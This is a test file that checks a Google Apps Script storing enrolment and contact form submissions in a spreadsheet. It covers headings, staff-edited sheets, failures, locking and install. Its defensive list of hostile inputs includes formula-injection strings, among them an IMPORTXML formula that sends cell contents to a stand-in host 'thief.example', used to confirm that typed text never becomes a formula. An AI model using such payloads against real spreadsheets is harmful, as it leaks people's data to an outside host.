import { describe, expect, test } from 'vitest';

import { sampleApplication } from '../testing/sample-application.ts';
import { sampleMessage } from '../testing/sample-message.ts';
import { fieldNames } from '../domain/forms/enrolment/schema.ts';
import { directConnection, Google } from './testing/google.ts';
import { personAt } from './testing/person.ts';
import { deliver, forwarded, post, runScript, scriptSource } from './testing/run-script.ts';
import { sheetWith } from './testing/run-script.ts';
import { recordsOf, rowsOf } from './testing/sheet.ts';
import { applyWrite } from './testing/workbook.ts';

const columns = ['reference', 'submittedAt', 'dueAt', 'answered', ...fieldNames, 'key'];
const cells = Object.entries(forwarded).map(([name, answer]) => [name, [answer].flat().join('; ')]);
const asCells = Object.fromEntries(cells) as Record<string, string>;

/** The script with one thing broken. */
function broken(what: string, instead: string): string {
  expect(scriptSource).toContain(what);
  return scriptSource.replace(what, instead);
}

/** A spreadsheet in which the staff have already written. */
function sheetOfStaff(values: string[][], name = 'Applications'): Google {
  const google = new Google();
  const [rows, columns] = [values.length, values[0]!.length];
  applyWrite(google.workbook, { kind: 'insertTab', tab: name });
  const area = { tab: name, row: 1, column: 1, rows, columns };
  applyWrite(google.workbook, { kind: 'values', area, values });
  return google;
}

describe('a form that arrives', () => {
  test('is a row under headings, and only then answered with success', () => {
    const google = new Google();
    expect(deliver(google, forwarded)).toEqual({ success: true, reference: '4KX7-9QMD' });
    expect(rowsOf(google)[0]).toEqual(columns);
    const dueAt = new Date('2025-02-02T09:05:00.000Z');
    expect(recordsOf(google)).toEqual([{ ...asCells, dueAt, answered: '', key: '' }]);
    expect(google.workbook.tabs[0]!.frozenRows).toBe(1);
  });

  test('is answered as JSON', () => {
    const parameters = { data: [JSON.stringify({ ...sampleApplication, city: '' })] };
    const { answer } = runScript(directConnection(new Google()), { entry: 'doPost', parameters });
    expect(answer).toEqual({
      content: '{"success":false,"error":"The field city is missing or not valid."}',
      mimeType: 'application/json',
    });
  });

  test('is told apart by its fields: a contact message has a tab of its own', () => {
    const sent = { ...sampleMessage, reference: '2222-3333' };
    const google = sheetWith(sent);
    expect(recordsOf(google, 'Messages')).toMatchObject([sent]);
    expect(google.workbook.tabs).toHaveLength(1);
  });

  test('may name a hundred courses', () => {
    const google = new Google();
    const selectedCourses = Array.from({ length: 100 }, (_, at) => `${at}`.padEnd(200, 'x'));
    expect(deliver(google, { ...forwarded, selectedCourses })).toMatchObject({ success: true });
    expect(recordsOf(google)[0]!.selectedCourses).toBe(selectedCourses.join('; '));
    const tooMany = { ...forwarded, reference: 'A', selectedCourses: [...selectedCourses, 'more'] };
    expect(deliver(google, tooMany).success).toBe(false);
  });
});

test('the same answers under another reference, or other answers, make another row', () => {
  const google = sheetWith(forwarded, { ...forwarded, reference: '2222-3333' });
  post(google, sampleApplication);
  post(google, { ...sampleApplication, city: 'Ely' });
  expect(recordsOf(google)).toHaveLength(4);
});

describe('a sheet that the staff have changed', () => {
  test('keeps their columns, their order and their rows; only missing headings are added', () => {
    const google = sheetOfStaff([
      ['Called?', 'City', 'fullName', 'Notes'],
      ['yes', 'Bath', 'Ann Earlier', 'likes mornings'],
    ]);
    expect(deliver(google, forwarded)).toMatchObject({ success: true });
    const [headings, earlier, added] = rowsOf(google);
    expect(headings!.slice(0, 6)).toEqual([
      ...['Called?', 'City', 'fullName', 'Notes', 'reference', 'submittedAt'],
    ]);
    const known = columns.filter((name) => name !== 'city');
    expect([...headings!].sort()).toEqual(['Called?', 'City', 'Notes', ...known].sort());
    expect(earlier!.slice(0, 4)).toEqual(['yes', 'Bath', 'Ann Earlier', 'likes mornings']);
    expect(added!.slice(0, 4)).toEqual(['', 'Leeds', forwarded.fullName, '']);
  });

  describe('keeps the formats of its columns', () => {
    const withFormats = (rows: number) => {
      const google = sheetOfStaff([['Called?', 'city', 'country', 'reference']]);
      google.workbook.tabs[0]!.rows = rows;
      const area = { tab: 'Applications', row: 1, column: 1, rows, columns: 4 };
      const formats = Array.from({ length: rows }, () => ['d mmm', '@', '@', '@']);
      applyWrite(google.workbook, { kind: 'formats', area, formats });
      return google;
    };

    test.each([
      ['in a row that is there', 20],
      ['in a row that is new', 1],
    ])('%s: no apostrophe is seen but before what begins like a formula', (_where, rows) => {
      const google = withFormats(rows);
      const form = { ...forwarded, city: '01', country: '=A1' };
      expect(deliver(google, form).success).toBe(true);
      const { cells } = google.workbook.tabs[0]!;
      expect(cells.get('2,1')).toEqual({ value: '', formula: '', format: 'd mmm' });
      expect(cells.get('2,2')).toEqual({ value: '01', formula: '', format: '@' });
      expect(cells.get('2,3')).toEqual({ value: "'=A1", formula: '', format: '@' });
      expect(deliver(google, form).success).toBe(true);
      expect(recordsOf(google)).toHaveLength(1);
    });

    test('and knows a row whose apostrophe is seen', () => {
      const google = withFormats(20);
      deliver(google, forwarded);
      google.workbook.tabs[0]!.cells.get('2,4')!.value = `'${forwarded.reference}`;
      expect(deliver(google, forwarded).success).toBe(true);
      expect(recordsOf(google)).toHaveLength(1);
    });
  });

  test('may have other answers meanwhile, and another form that names the reference', () => {
    const google = sheetWith(forwarded);
    personAt(google).types(2, rowsOf(google)[0]!.indexOf('city') + 1, 'Leeds, Yorkshire');
    const about = {
      ...forwarded,
      ...{ reference: '2222-3333', submittedAt: '2025-02-01T09:05:00.000Z' },
      additionalRequirements: '3333-4444',
    };
    expect(deliver(google, about).success).toBe(true);
    expect(deliver(google, forwarded).success).toBe(true);
    expect(deliver(google, { ...forwarded, reference: '3333-4444' }).success).toBe(true);
    expect(recordsOf(google).map(({ reference }) => reference)).toEqual([
      ...[forwarded.reference, '2222-3333', '3333-4444'],
    ]);
  });

  test('grows when it is full, in rows and in columns', () => {
    const google = sheetOfStaff([['Called?', 'Notes']]);
    Object.assign(google.workbook.tabs[0]!, { rows: 1, columns: 2 });
    expect(deliver(google, forwarded)).toMatchObject({ success: true });
    expect(recordsOf(google)).toMatchObject([{ ...asCells, 'Called?': '' }]);
  });
});

describe('what was typed', () => {
  const hostile = [
    ...['=A2&B2', '=IMPORTXML("https://thief.example/?"&C2,"//a")', '+A2', '-A2', '@A2'],
    ...['\t=A2', '\r=A2', "'=A2", '01632960001', '+447700900123', '1/2', '2025-03-01'],
    ...['May 2025', 'TRUE', '10%', '£100', '1e5', "''quoted''", '  '],
  ];

  test.each(hostile)('stands in its cell letter for letter: %j', (typed) => {
    const google = new Google();
    const form = { ...forwarded, businessName: typed, additionalRequirements: `${typed}\n=A2` };
    expect(deliver(google, form)).toMatchObject({ success: true });
    expect(recordsOf(google)[0]).toMatchObject({
      businessName: typed.trim(),
      additionalRequirements: `${typed}\n=A2`.trim(),
    });
    expect([...google.workbook.tabs[0]!.cells.values()].some(({ formula }) => formula)).toBe(false);
  });

  test('is taken out, and that is said once, should it ever have become a formula', () => {
    const google = new Google();
    const open = broken(": `'${text}`", ': text');
    const form = { ...forwarded, businessName: '=C2' };
    expect(deliver(google, form, open).error).toMatch(/had become a formula/);
    expect(deliver(google, form, open).success).toBe(true);
    expect([...google.workbook.tabs[0]!.cells.values()].some(({ formula }) => formula)).toBe(false);
    expect(recordsOf(google)).toMatchObject([
      { reference: forwarded.reference, businessName: '(A formula was taken out here.)' },
    ]);
  });
});

describe('a failure is answered as one', () => {
  test.each([
    ['Sheet.appendRow', 'Service invoked too many times for one day: spreadsheets.', /allowance/],
    ['SpreadsheetApp.flush', 'Service invoked too many times in a short time.', /allowance/],
    ['LockService.getScriptLock', 'You do not have permission to call this.', /run install/],
    ['Lock.tryLock', 'There are too many LockService operations against the same script.', /again/],
    ['Sheet.appendRow', 'The cell violates the data validation rules set on it.', /A rule/],
    ['Sheet.getLastRow', 'Service Spreadsheets failed while accessing document.', /Executions/],
    ['SpreadsheetApp.getActiveSpreadsheet', 'A surprise', /Executions/],
  ])('when %s throws “%s”', (service, words, sentence) => {
    const google = new Google();
    google.fault = (called) => (called === service ? words : undefined);
    const answer = deliver(google, forwarded);
    expect(answer).toEqual({ success: false, error: expect.stringMatching(sentence) as string });
    google.fault = () => undefined;
    expect(google.lockNow({})).toBe(true);
  });

  test('and what failed half way is one row after it was sent again', () => {
    const google = new Google();
    google.fault = (called) => (called === 'SpreadsheetApp.flush' ? 'quota' : undefined);
    expect(deliver(google, forwarded).success).toBe(false);
    google.fault = () => undefined;
    expect(deliver(google, forwarded).success).toBe(true);
    expect(recordsOf(google)).toHaveLength(1);
  });

  test('when the lock is held for too long', () => {
    const google = new Google();
    google.lockNow({ another: 'run' });
    expect(deliver(google, forwarded)).toEqual({
      success: false,
      error: expect.stringContaining('busy') as string,
    });
    expect(google.workbook.tabs).toEqual([]);
  });

  test('but a lock that does not open again takes nothing back', () => {
    const google = new Google();
    google.fault = (called) => (called === 'Lock.releaseLock' ? 'Surprise' : undefined);
    expect(deliver(google, forwarded)).toMatchObject({ success: true });
    expect(recordsOf(google)).toHaveLength(1);
  });
});

describe('by hand', () => {
  const run = (google: Google, entry: 'doGet' | 'install') =>
    runScript(directConnection(google), { entry });

  test('opening the address says that it works and stores nothing', () => {
    const google = new Google();
    expect(run(google, 'doGet').answer!.content).toMatch(/^The script is installed/);
    expect(google.workbook.tabs).toEqual([]);
  });

  test('install makes both tabs, says so, and changes nothing the second time', () => {
    const google = new Google();
    expect(run(google, 'install').log).toEqual(['Ready. Now choose Deploy, New deployment.']);
    const tabs = structuredClone(google.workbook.tabs);
    expect(tabs.map(({ name }) => name)).toEqual(['Applications', 'Messages']);
    run(google, 'install');
    expect(google.workbook.tabs).toEqual(tabs);
  });
});
